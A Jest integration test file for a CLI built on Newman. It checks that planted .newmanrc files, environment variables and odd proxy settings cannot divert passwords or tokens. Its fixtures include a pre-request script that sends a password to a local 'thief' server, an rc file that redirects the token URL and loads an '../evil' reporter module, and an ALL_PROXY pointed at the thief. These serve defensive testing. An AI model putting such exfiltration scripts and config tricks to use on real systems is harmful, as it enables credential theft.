import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import { mkdir, readdir, truncate, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { csvOf } from '../cli/fleet.js';
import { inTemporaryFolder } from '../../support/folder.js';
import { spawnProgram as program } from '../../support/program.js';
import type { TokenServer } from '../../unit/newman/token-server.js';
import { startTokenServer } from '../../unit/newman/token-server.js';
import { threadEnvironment } from '../../../src/newman/plan.js';

let server: TokenServer;
let thief: TokenServer;
beforeAll(async () => {
  server = await startTokenServer();
  thief = await startTokenServer();
});
afterAll(async () => {
  await server.close();
  await thief.close();
});

const devices = csvOf([{}, {}]);

/** Runs a command with a `.newmanrc` in its working folder and in its home folder. */
function besideRcFiles(
  place: (file: string) => unknown,
  args: readonly string[],
  env: Readonly<Record<string, string>> = {},
) {
  return inTemporaryFolder(async (folder) => {
    await mkdir(join(folder, '.postman'));
    await place(join(folder, '.newmanrc'));
    await place(join(folder, '.postman/newmanrc'));
    const before = await readdir(folder);
    const finished = await program(args, {
      cwd: folder,
      env: { HOME: folder, USERPROFILE: folder, ...env },
      input: devices,
    });
    const written = (await readdir(folder)).filter((name) => !before.includes(name));
    return { ...finished, written };
  });
}

const holding = (content: object) => (file: string) => writeFile(file, JSON.stringify(content));

const script = (text: string) => [
  { listen: 'prerequest', script: { type: 'text/javascript', exec: [text] } },
];

const send = () =>
  `pm.sendRequest('${thief.origin}/x?p=' + encodeURIComponent(pm.variables.get('password')))`;

describe("Newman's own rc files have no say in a run", () => {
  const lanes: readonly (readonly string[])[] = [
    ['run', '-', '--concurrency', '1'],
    ['run', '-', '--newman-reporter', 'json'],
  ];

  test.each(lanes.map((lane) => [lane.join(' '), lane] as const))(
    'in %s, where a script in one would send the passwords elsewhere',
    async (_name, lane) => {
      const before = server.bodies.length;
      const { status, stdout } = await besideRcFiles(
        (file) => holding({ collection: { event: script(send()) } })(file),
        [...lane, '--token-url', server.tokenUrl],
      );
      expect(stdout).toContain('2 passed');
      expect(status).toBe(0);
      expect(server.bodies.length - before).toBe(2);
      expect(thief.bodies).toEqual([]);
    },
  );

  test('in demo', async () => {
    const { status, stdout } = await besideRcFiles(
      (file) => holding({ collection: { event: script(send()) } })(file),
      ['demo', '--devices', '2'],
    );
    expect(stdout).toContain('2 passed');
    expect(status).toBe(0);
    expect(thief.bodies).toEqual([]);
  });

  test.each<readonly [string, (file: string) => unknown]>([
    [
      'that redirects the token URL, loads a module as a reporter, exports variables, waits and aborts',
      (file) => {
        const options = {
          envVar: [{ key: 'token_url', value: thief.tokenUrl }],
          globalVar: [{ key: 'token_url', value: thief.tokenUrl }],
          environment: { values: [{ key: 'token_url', value: thief.tokenUrl }] },
          reporters: ['cli', '../../../../../../evil'],
          exportEnvironment: 'environment.json',
          exportCollection: 'collection.json',
          delayRequest: 3_600_000,
          timeout: 1,
          bail: true,
          iterationCount: 7,
          abortOnFailure: true,
          folder: ['none'],
        };
        return holding({ ...options, run: options })(file);
      },
    ],
    ['that is not JSON', (file) => writeFile(file, 'reporters: [cli]')],
    ['that is a folder', (file) => mkdir(file)],
    ['that is a pipe without a writer', (file) => execFileSync('/usr/bin/env', ['mkfifo', file])],
    ['that no user may read', (file) => writeFile(file, '{"collection":', { mode: 0o000 })],
    [
      'that is too large for memory',
      async (file) => {
        await writeFile(file, '');
        await truncate(file, 8 * 1024 ** 3);
      },
    ],
  ])('one %s', async (_what, place) => {
    const before = server.bodies.length;
    const { status, stdout, stderr, written } = await besideRcFiles(place, [
      'run',
      '-',
      '--token-url',
      server.tokenUrl,
    ]);
    expect(stdout).toContain('2 read, 0 skipped, 2 attempted, 2 passed, 0 failed, 0 not attempted');
    expect(stderr).not.toMatch(/error|newman/i);
    expect(status).toBe(0);
    expect(server.bodies.length - before).toBe(2);
    expect(thief.bodies).toEqual([]);
    expect(written).toEqual(['biotz-report']);
  });
});

describe('variables that libraries read on their own', () => {
  test('print nothing and change nothing', async () => {
    const { status, stdout, stderr } = await besideRcFiles(
      () => undefined,
      ['run', '-', '--quiet', '--token-url', server.tokenUrl],
      {
        DEBUG: '*',
        LOG_STREAM: '1',
        LOG_TOKENS: '1',
        POSTMAN_API_KEY: 'PMAK-x',
        UNDICI_NO_WASM_SIMD: '1',
        YARGS_MIN_NODE_VERSION: '99',
        INQUIRER_KEYBINDINGS: 'vim',
        ALL_PROXY: thief.origin,
        AWS_ACCESS_KEY_ID: 'x',
        AWS_SECRET_ACCESS_KEY: 'y',
        NODE_OPTIONS: '--unhandled-rejections=none',
      },
    );
    expect(stdout).toContain('2 passed');
    expect(stderr).toBe('');
    expect(status).toBe(0);
    expect(thief.bodies).toEqual([]);
  });

  test.each<[string, ...string[]]>([
    ['run', 'run', '-', '--token-url', 'https://auth.example.org/token'],
    [
      'run, asking what the server reads',
      'run',
      '-',
      '--body',
      'auto',
      '--token-url',
      'https://auth.example.org',
    ],
    ['run with a collection', 'run', '-', '--collection', 'collection.json'],
    ['token', 'token', '-', '--no-verify', '--token-url', 'https://auth.example.org/token'],
  ])('that name a proxy of another kind are refused before anything is sent: %s', (_what, ...args) =>
    inTemporaryFolder(async (cwd) => {
      const item = [{ name: 'Ask', request: { url: 'https://auth.example.org/token' } }];
      await writeFile(join(cwd, 'collection.json'), JSON.stringify({ info: { name: 'own' }, item }));
      const env = { HTTPS_PROXY: 'socks5://user:canary@127.0.0.1:1' };
      const { status, stdout, stderr } = await program(args, { cwd, env, input: csvOf([{}]) });
      expect(stderr).toContain('HTTPS_PROXY must be an http:// or https:// address.');
      expect(stdout + stderr).not.toContain('canary');
      expect(status).toBe(2);
      expect(await readdir(cwd)).toEqual(['collection.json']);
    }),
  );

  test('that name a proxy of another kind do not matter to what needs none', async () => {
    const env = { HTTPS_PROXY: 'socks5://127.0.0.1:1' };
    const args = ['run', '-', '--quiet', '--token-url', server.tokenUrl];
    const { status, stdout } = await besideRcFiles(() => undefined, args, env);
    expect(stdout).toContain('2 passed');
    expect(status).toBe(0);
  });

  test("do not reach Newman's thread, except Node's own options and the proxy that token would use", () => {
    expect(
      threadEnvironment({
        HOME: '/home/me',
        DEBUG: '*',
        BIOTZ_PASSWORD: 'x',
        HTTP_PROXY: 'http://plain',
        https_proxy: '',
        HTTPS_PROXY: 'http://proxy:3128',
        no_proxy: 'a.test *.b.test, .c.test:8443',
        NO_PROXY: 'd.test',
        NODE_OPTIONS: '--dns-result-order=ipv4first',
      }),
    ).toEqual({
      HTTPS_PROXY: 'http://proxy:3128',
      NO_PROXY: 'a.test,b.test,c.test:8443',
      NODE_OPTIONS: '--dns-result-order=ipv4first',
    });
    expect(threadEnvironment({ NO_PROXY: 'a.test,*' })).toEqual({ NO_PROXY: '*' });
  });
});
